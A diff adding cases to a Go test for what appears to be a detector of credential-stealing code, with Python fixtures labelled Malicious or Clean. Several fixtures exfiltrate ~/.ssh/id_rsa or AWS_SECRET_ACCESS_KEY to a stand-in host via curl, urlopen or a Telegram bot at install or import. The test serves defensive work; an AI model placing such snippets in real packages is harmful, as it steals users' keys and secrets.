@@ -37,6 +37,15 @@ func TestStealerSourcesAndSinks(t *testing.T) {
 			"import os\nfrom telegram import Bot\nBot('" + token + "').send_document(chat_id=42, document=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))\n"}, Malicious},
 		{"a report sent as a chat document by a command", map[string]string{"p/notify.py": "" +
 			"from telegram import Bot\ndef send_report(token, chat_id, path):\n    Bot(token).send_document(chat_id=chat_id, document=open(path, 'rb'))\n"}, Clean},
+		{"a key read into a name first set empty, sent by curl at install", map[string]string{"setup.py": "" +
+			"import base64, os, subprocess\nURL = 'http://collect.example.invalid'\ndef steal():\n    key = ''\n" +
+			"    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        key = f.read()\n    key = base64.b64encode(key.encode()).decode()\n" +
+			"    subprocess.check_output(['curl', f'{URL}/?k={key}'])\nsteal()\n"}, Malicious},
+		{"a download address first built, then taken from the environment, at install", map[string]string{"setup.py": "" +
+			"import os, urllib.request\ndef fetch(target):\n    url = f'https://downloads.example.invalid/lib/{target}/latest.tgz'\n" +
+			"    if 'LIB_URL' in os.environ:\n        url = os.environ['LIB_URL']\n    with urllib.request.urlopen(urllib.request.Request(url)) as r:\n        open('lib.tgz', 'wb').write(r.read())\nfetch('linux')\n"}, Clean},
+		{"a secret from the environment in a URL's query on import", map[string]string{"p/__init__.py": "" +
+			"import os, urllib.request\nurllib.request.urlopen('https://collect.example.invalid/x?d=' + os.environ.get('AWS_SECRET_ACCESS_KEY', ''))\n"}, Malicious},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
